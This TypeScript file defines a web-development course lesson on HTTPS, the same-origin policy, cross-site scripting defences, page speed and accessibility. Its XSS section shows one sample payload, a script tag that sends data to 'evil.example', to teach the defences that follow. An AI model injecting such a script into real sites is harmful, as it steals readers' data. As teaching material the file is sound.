import type { DemoLesson } from "../demo-course.ts";

export const safeFastForEveryone: DemoLesson = {
  title: "Safe, fast, and for everyone",
  sections: [
    {
      title: "What the padlock promises",
      estimatedDuration: 6,
      content: `
<p>Between you and a server lie a dozen machines that belong to other people. HTTPS is ordinary HTTP inside an encrypted tunnel called <dfn>TLS</dfn>, and it makes three promises about what goes through it.</p>
<table>
<thead><tr><th scope="col">Promise</th><th scope="col">Without it</th></tr></thead>
<tbody>
<tr><td><strong>Secrecy:</strong> nobody on the way can read</td><td>Your password is visible to the whole café</td></tr>
<tr><td><strong>Integrity:</strong> nobody on the way can change</td><td>A provider adds advertisements to your pages</td></tr>
<tr><td><strong>Authenticity:</strong> it is really this host</td><td>A copy of your bank collects account numbers</td></tr>
</tbody>
</table>
<h2>How strangers agree on a secret</h2>
<p>The puzzle is to agree on a key while everybody is listening. The solution, found in the 1970s, uses calculations that are easy in one direction and hopeless in the other. Each side thinks of a secret number, publishes something calculated from it, and combines the other’s publication with its own secret. Both arrive at the same key. Eavesdroppers have seen everything and can still not work it out.</p>
<p>In formulas: with public <span data-math="g">g</span> and <span data-math="p">p</span>, one side sends <span data-math="g^a \\bmod p">g^a mod p</span>, the other <span data-math="g^b \\bmod p">g^b mod p</span>, and both can compute <span data-math="g^{ab} \\bmod p">g^(ab) mod p</span>.</p>
<h2>Who vouches for the server?</h2>
<p>A secret shared with an impostor is worth nothing. So the server shows a <dfn>certificate</dfn>: a statement, signed by an authority the browser trusts, that this key belongs to this name. If the signature, the name or the date is wrong, the browser stops and warns you.</p>
<aside data-callout="warning"><p>The padlock says that you are talking to the host in the address bar, and to nobody else. It does not say that this host is honest. Swindlers have certificates, too: read the name.</p></aside>`,
    },
    {
      title: "Why one site cannot read another",
      estimatedDuration: 7,
      content: `
<p>In one tab you have your bank, in the next a page full of cat pictures whose author you do not know. Both run programs on your computer. What keeps the cats away from your money?</p>
<h2>The same-origin policy</h2>
<p>An <dfn>origin</dfn> is the triple of scheme, host and port. A script may do what it likes with its own origin. It may not read answers from any other.</p>
<table>
<thead><tr><th scope="col">Compared with https://bank.example</th><th scope="col">Same origin?</th></tr></thead>
<tbody>
<tr><td>https://bank.example/accounts</td><td>yes, only the path differs</td></tr>
<tr><td>http://bank.example</td><td>no, another scheme</td></tr>
<tr><td>https://www.bank.example</td><td>no, another host</td></tr>
<tr><td>https://bank.example:8443</td><td>no, another port</td></tr>
</tbody>
</table>
<h2>When the wall is climbed from inside</h2>
<p>Suppose a forum shows what people write exactly as they wrote it. Then somebody writes this:</p>
<pre><code class="language-html">Nice post! &lt;script&gt;sendEverythingTo("https://evil.example")&lt;/script&gt;</code></pre>
<p>To the browser this script came from the forum, so it may do whatever the forum may do, in the name of everyone who reads it. The attack is called <em>cross-site scripting</em>, and it has been among the most common holes for twenty-five years.</p>
<p>The defence has several layers. Treat text as text: write <code>&amp;lt;</code> where a <code>&lt;</code> was typed. Where people may format, keep a short list of allowed elements, and drop all others. Tell the browser with a <em>Content Security Policy</em> from where scripts may come at all. And keep session cookies <code>HttpOnly</code>, so that even a script that got in cannot carry them away.</p>
<aside data-callout="tip"><p>The rule to remember: text from people is never code, whoever the people are, and however short the text.</p></aside>`,
    },
    {
      title: "Speed is a feature",
      estimatedDuration: 6,
      content: `
<p>A page that is slow is, for somebody on an old phone at the edge of a village, a page that does not exist. Speed is not decoration. It decides who can take part.</p>
<h2>What to measure</h2>
<ul>
<li><strong>Largest Contentful Paint:</strong> when has the main thing on the page appeared? Good is under 2.5 seconds.</li>
<li><strong>Interaction to Next Paint:</strong> how long after a tap does something visibly happen? Good is under 200 milliseconds.</li>
<li><strong>Cumulative Layout Shift:</strong> how much does the page jump about while it loads? Good is almost not at all.</li>
</ul>
<p>Measure on a modest phone over a modest network, not on the developer’s desk. And look at the slow visits, not at the average. If one visit in ten takes eight seconds, a mean of two seconds consoles nobody.</p>
<h2>What helps most</h2>
<table>
<thead><tr><th scope="col">Do this</th><th scope="col">Because</th></tr></thead>
<tbody>
<tr><td>Send less script</td><td>It must be loaded, read and run before it is of any use</td></tr>
<tr><td>Send pictures in the size they are shown</td><td>A phone does not need 4,000 pixels</td></tr>
<tr><td>Give pictures a width and a height</td><td>The text no longer jumps when they arrive</td></tr>
<tr><td>Cache what does not change</td><td>The fastest request is none</td></tr>
<tr><td>Put the server, or a copy, near the readers</td><td>Light is slow</td></tr>
</tbody>
</table>
<pre><code class="language-html">&lt;img src="/lab-800.avif" width="800" height="450" loading="lazy"
     alt="Students around a bench with a pendulum"&gt;</code></pre>
<aside data-callout="info"><p>Speed is lost in small steps: one library here, one tracker there. Teams that stay fast set a budget, for instance 150 kilobytes of script, and let their tests fail when a change breaks it.</p></aside>`,
    },
    {
      title: "A web for everyone",
      estimatedDuration: 7,
      content: `
<p>About one person in six lives with a disability. Some readers hear a page instead of seeing it; some cannot hold a mouse; some need more contrast, larger letters, or simply more time. And everybody is sometimes one of them: with a broken arm, in bright sun, on a noisy bus, at the end of a long day.</p>
<h2>Four questions</h2>
<ol>
<li><strong>Can it be perceived?</strong> Pictures have a text alternative, videos have captions, and nothing is told by colour alone.</li>
<li><strong>Can it be operated?</strong> Everything works with the keyboard, the focus is visible, and nothing flashes.</li>
<li><strong>Can it be understood?</strong> The language of the page is declared, words are plain, and an error says how to put it right.</li>
<li><strong>Is it robust?</strong> It is built from real headings, buttons and labels, which every assistive program understands.</li>
</ol>
<p>These are the principles of the <abbr title="Web Content Accessibility Guidelines">WCAG</abbr>, the standard that many countries have written into law.</p>
<h2>Small habits with large effects</h2>
<pre><code class="language-html">&lt;label for="email"&gt;E-mail&lt;/label&gt;
&lt;input id="email" type="email" autocomplete="email"
       aria-describedby="email-help" required&gt;
&lt;p id="email-help"&gt;We only use it to send your certificate.&lt;/p&gt;</code></pre>
<p>A label that belongs to its field makes the whole word clickable, is read aloud when the field is reached, and lets the browser fill it in. One line, three groups of people helped.</p>
<table>
<thead><tr><th scope="col">Test it yourself</th><th scope="col">What to look for</th></tr></thead>
<tbody>
<tr><td>Put the mouse away</td><td>Can you reach and use everything with Tab and Enter?</td></tr>
<tr><td>Zoom to 200 %</td><td>Is everything still there, without scrolling sideways?</td></tr>
<tr><td>Read only the links</td><td>Would “click here” tell you where you are going?</td></tr>
</tbody>
</table>
<aside data-callout="tip"><p>You have reached the end. Go back to the first section, and read the six steps once more: behind each of them you can now see a whole landscape.</p></aside>`,
    },
  ],
};
